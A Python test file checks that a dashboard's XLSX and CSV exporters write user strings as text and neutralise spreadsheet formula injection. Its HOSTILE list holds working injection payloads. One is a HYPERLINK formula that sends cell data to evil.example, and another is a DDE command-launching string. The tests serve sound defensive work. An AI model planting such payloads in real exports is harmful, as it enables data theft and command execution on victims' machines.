"""Free text stays text: every exporter writes user-supplied strings as text cells (never formulas),
and CSV cells that a spreadsheet would evaluate get a leading apostrophe (OWASP CSV injection)."""
from __future__ import annotations

import csv
import io
import zipfile

import openpyxl
import pandas as pd
import pytest

from pipelines.cells import csv_frame, csv_value, put

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1",
           "=cmd|' /C calc'!A0"]


def formulas(xlsx: bytes) -> list[str]:
    """Every cell of every sheet that holds a formula (read from the XML itself)."""
    found = []
    with zipfile.ZipFile(io.BytesIO(xlsx)) as z:
        for name in z.namelist():
            body = z.read(name) if name.startswith("xl/worksheets/") and name.endswith(".xml") else b""
            if b"<f>" in body or b"<f " in body:
                found.append(name)
    wb = openpyxl.load_workbook(io.BytesIO(xlsx))
    found += [f"{ws.title}!{c.coordinate}" for ws in wb for row in ws.iter_rows() for c in row if c.data_type == "f"]
    return found


@pytest.mark.parametrize("text", HOSTILE)
def test_put_writes_text_that_stays_text(text):
    wb = openpyxl.Workbook()
    put(wb.active, 1, 1, text)
    buf = io.BytesIO()
    wb.save(buf)
    assert formulas(buf.getvalue()) == []
    assert openpyxl.load_workbook(io.BytesIO(buf.getvalue())).active["A1"].value.endswith(text[1:])


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_cells_that_would_be_evaluated_get_an_apostrophe(text):
    assert csv_value(text) == "'" + text


@pytest.mark.parametrize("value", ["-3.5", "+86", "-1,200", "—", "张三", "2025Q4", 12, -4.5, None])
def test_numbers_and_plain_text_are_left_alone(value):
    assert csv_value(value) == value


def test_the_dashboards_xlsx_and_csv_exports_hold_no_formula():
    from dashboard import exports, ui

    frame = pd.DataFrame({"=单位": HOSTILE, "数值": range(len(HOSTILE)), "说明": ["备注"] * len(HOSTILE)})
    assert formulas(ui.xlsx_bytes(frame, title="=标题")) == []
    rows = list(csv.reader(io.StringIO(ui.csv_bytes(frame).decode("utf-8-sig"), newline="")))
    assert rows[0][0] == "'=单位"
    assert all(r[0].startswith("'") for r in rows[1:])
    matrix = pd.DataFrame({"乡镇": HOSTILE, "2025Q4": ["按时"] * len(HOSTILE)})
    assert formulas(exports.matrix_xlsx(matrix, {}, title="=t", subtitle="@s")) == []
    assert csv_frame(matrix)["乡镇"].str.startswith("'").all()


def test_the_clis_csv_output_holds_no_formula(capsys):
    import argparse

    from pipelines.cli.commands import emit

    emit([{"file": text, "n": 3} for text in HOSTILE], argparse.Namespace(json=False, csv=True), ["file", "n"])
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out, newline="")))
    assert rows[0] == ["file", "n"] and [r[0] for r in rows[1:]] == ["'" + t for t in HOSTILE]


def test_the_circular_and_the_template_hold_no_formula(tmp_db, tmp_path):
    """The 后进名单 circular with hostile unit names and notes, and a template whose registry names
    start with '=': text cells only."""
    from dashboard import exports
    from pipelines.access.roles import local_admin
    from pipelines.ingest.template import write_township_template
    from pipelines.registry.load import load_registry

    df = pd.DataFrame({"rank": [1, 2], "unit_name": HOSTILE[:2], "unit_code": ["439921101000", "439921100000"],
                       "value": [1.0, 2.0], "target_value": [5.0, 5.0], "pi": [0.2, 0.4], "tau": [1.0, 1.0],
                       "status": ["missed", "lagging"], "reason": ["=1+1", "@x"]})
    xlsx = exports.circular_xlsx(df, title="=标题", subtitle="+副标题", asof_text="截至", unit="个", scope="=范围",
                                 notes=["=注释"], parents={})
    assert formulas(xlsx) == []
    units = tmp_path / "units.csv"
    units.write_text("code,name,parent_code\n439800000000,测试市,430000000000\n439801000000,=测试县,439800000000\n"
                     "439801100000,=HYPERLINK(\"x\"),439801000000\n439801100201,@甲一村,439801100000\n",
                     encoding="utf-8")
    load_registry(tmp_db, [units], actor=local_admin("测试"))
    path = write_township_template(tmp_db, "439801100000", "2025Q4", tmp_path / "t.xlsx")
    assert formulas(path.read_bytes()) == []
